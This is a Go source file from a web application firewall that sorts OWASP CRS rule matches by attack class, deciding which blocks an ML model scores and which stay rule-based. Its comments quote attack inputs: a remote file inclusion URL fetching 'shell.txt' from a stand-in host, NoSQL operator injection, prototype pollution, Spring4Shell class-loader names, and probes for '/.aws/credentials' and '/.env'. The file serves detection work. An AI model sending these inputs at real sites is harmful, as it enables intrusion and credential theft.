package inspect

import (
	"strings"

	"github.com/bulwark-waf/bulwark/waf"
)

// CRS tags an attack rule with its class. modelledTags are the classes the
// model scores (sqli, xss, rce with code injection, traversal with local
// file inclusion); outsideTags are attack classes it does not, which keep a
// rule outside even when it also carries a modelled tag (934110 is both
// injection and SSRF). Remote file inclusion (931xxx) is outside: a URL to
// someone else's host is a value the model reads as a URL, and it scored
// textbook inclusions (`?module=http://203.0.113.9/shell.txt?`) 60 to 72
// in a blind probe, while CRS's four PL1 rules fired on 2 of 6,255 real
// benign requests.
var (
	modelledTags = map[string]bool{"attack-sqli": true, "attack-xss": true, "attack-rce": true, "attack-lfi": true,
		"attack-injection-php": true, "attack-injection-java": true, "attack-injection-generic": true,
		"attack-generic": true}
	outsideTags = map[string]bool{"attack-ssrf": true, "attack-rfi": true, "attack-protocol": true, "attack-fixation": true,
		"attack-reputation-scanner": true, "attack-multipart-header": true, "attack-deprecated-header": true,
		"attack-disclosure": true}
)

// mongoOperators are MongoDB's query operators, the ones an injection
// puts in a parameter name to turn a comparison into a condition.
var mongoOperators = map[string]bool{"ne": true, "eq": true, "gt": true, "gte": true, "lt": true, "lte": true,
	"in": true, "nin": true, "regex": true, "where": true, "exists": true, "not": true, "or": true, "and": true,
	"nor": true, "expr": true, "elemmatch": true, "all": true, "size": true, "type": true, "mod": true,
	"text": true, "jsonschema": true, "function": true}

// nosqlOperatorNames reports whether a 942290 match is a NoSQL operator
// in argument names: every matched value is an ARGS_NAMES entry with a
// `[$op]` or `.$op` segment (`password[$ne]`, `json.user.$gt`). The model
// scores values, and such an operator's value is empty or ordinary, so
// the block is CRS's. The same rule elsewhere stays the model's to judge:
// on a Mixpanel cookie's `$initial_referrer` (its `$in` is unanchored) or
// on ASP.NET WebForms names (`ctl00$Login1$RememberMe` has `$Log`).
func nosqlOperatorNames(vars []waf.MatchedVar) bool {
	if !argNamesOnly(vars) {
		return false
	}
	for _, v := range vars {
		if !hasOperatorSegment(v.Value) {
			return false
		}
	}
	return true
}

// blockingMatch reports whether m is an inbound rule that counts towards
// the blocking anomaly score at paranoia level pl: logged, with a
// severity, in phase 1 or 2, not CRS's own blocking evaluation, and not a
// rule above pl that only adds to the detection score.
func blockingMatch(m waf.Match, pl int) bool {
	return m.Logged && m.Severity != "" && m.Phase <= 2 && !IsCRSBlockingRule(m.ID) && ruleLevel(m) <= pl
}

// argNamesOnly reports whether every matched value is an ARGS_NAMES entry.
func argNamesOnly(vars []waf.MatchedVar) bool {
	for _, v := range vars {
		if v.Collection != "ARGS_NAMES" {
			return false
		}
	}
	return len(vars) > 0
}

// classLoaderName reports whether a rule matched a parameter name that
// walks to a class loader (`….classLoader.…`) and, besides names, only the
// raw body or the file name that contain them: no argument, cookie,
// header or XML value.
func classLoaderName(vars []waf.MatchedVar) bool {
	loader := false
	for _, v := range vars {
		switch v.Collection {
		case "ARGS_NAMES":
			loader = loader || strings.Contains(strings.ToLower(v.Value), "classloader")
		case "REQUEST_BODY", "REQUEST_FILENAME":
		default:
			return false
		}
	}
	return loader
}

// hiddenSegment reports whether a matched path has a segment that names a
// hidden file or directory: a dot and then a name (`.aws`, `.env`), not a
// parent reference and not RFC 8615's `.well-known`, which sites serve on
// purpose.
func hiddenSegment(vars []waf.MatchedVar) bool {
	for _, v := range vars {
		for seg := range strings.SplitSeq(v.Value, "/") {
			if len(seg) > 1 && seg[0] == '.' && seg[1] != '.' && !strings.EqualFold(seg, ".well-known") {
				return true
			}
		}
	}
	return false
}

func hasOperatorSegment(name string) bool {
	for i := 0; i+1 < len(name); i++ {
		if name[i+1] != '$' || (name[i] != '[' && name[i] != '.') {
			continue
		}
		j := i + 2
		for j < len(name) && (name[j] >= 'a' && name[j] <= 'z' || name[j] >= 'A' && name[j] <= 'Z') {
			j++
		}
		if j > i+2 && mongoOperators[strings.ToLower(name[i+2:j])] && (j == len(name) || name[j] == ']' || name[j] == '.' || name[j] == '[') {
			return true
		}
	}
	return false
}

// unmodelled lists the inbound rules of v that count towards the blocking
// score at paranoia level pl and are not of a class the model scores:
// method and protocol enforcement, scanners, session fixation, SSRF, and any rule
// of your own without a modelled CRS attack tag. A block they are part of is
// CRS's to make: the model has nothing to say about them.
func unmodelled(v waf.Verdict, pl int) []int {
	var out []int
	for _, m := range v.Matches {
		if !blockingMatch(m, pl) {
			continue
		}
		modelled, outside := false, false
		for _, t := range m.Tags {
			modelled = modelled || modelledTags[t]
			outside = outside || outsideTags[t]
		}
		// Method enforcement (911xxx) is tagged attack-generic, but it is the
		// site's policy on methods (a WebDAV PROPFIND, a CalDAV REPORT), not
		// an attack the model could score.
		if m.ID/1000 == 911 {
			outside = true
		}
		if m.ID == 942290 && nosqlOperatorNames(m.Vars()) {
			outside = true
		}
		// Prototype pollution (934130: __proto__, constructor.prototype) is
		// tagged as injection, but it lives in parameter names and JSON
		// keys (`constructor[prototype][isAdmin]=true`), which the model
		// scores 99: a blind probe saw it clear both such blocks.
		if m.ID == 934130 {
			outside = true
		}
		// PHP object injection (933170: a serialized object, `O:8:"Monolog…":`)
		// is tagged as PHP injection, but the model reads a serialized
		// object as data (99 in a blind probe of a cookie gadget chain),
		// and the rule fires on none of the hand-written benign requests.
		if m.ID == 933170 {
			outside = true
		}
		// A PHP script uploaded as a file (933110: a .php file name in a
		// multipart part) is a file the model does not read; it scored the
		// name 72 and cleared the block as shapeless in a blind probe of a
		// GIF89a web shell.
		if m.ID == 933110 {
			outside = true
		}
		// A Java attack rule (944xxx) that matched a class-loader path in a
		// parameter name and no parameter value is Spring4Shell's
		// `class.module.classLoader…=` (944130, on the name and on the raw
		// body that holds it) or Struts' older `class.classLoader…=`: the
		// payload is the name, whose value (`%{c2}i`) the model scores 97.
		// Other names stay the model's to judge: Struts 1 forms post
		// `org.apache.struts.taglib.html.TOKEN`, which 944130 matches too.
		if m.ID/1000 == 944 && classLoaderName(m.Vars()) {
			outside = true
		}
		// A restricted file (930130) whose path has a hidden segment
		// (`/.aws/credentials`, `/.git/config`, `/.env`) is a scanner's
		// probe for a dotfile: the file name is the whole payload, and the
		// model, which has no shape for a name, scored `/.aws/credentials`
		// 99 in a blind probe. The rule's other matches stay the model's to
		// clear: it fires on git smart-HTTP (`/org/repo.git/info/refs`),
		// dumps (`pg_dump.sql.gz`), Slack's `users.profile.set` and names
		// like `chat-config.json`, on 13 of the real and hand-written
		// benign requests, none with a hidden segment.
		if m.ID == 930130 && hiddenSegment(m.Vars()) {
			outside = true
		}
		if !modelled || outside {
			out = append(out, m.ID)
		}
	}
	return out
}
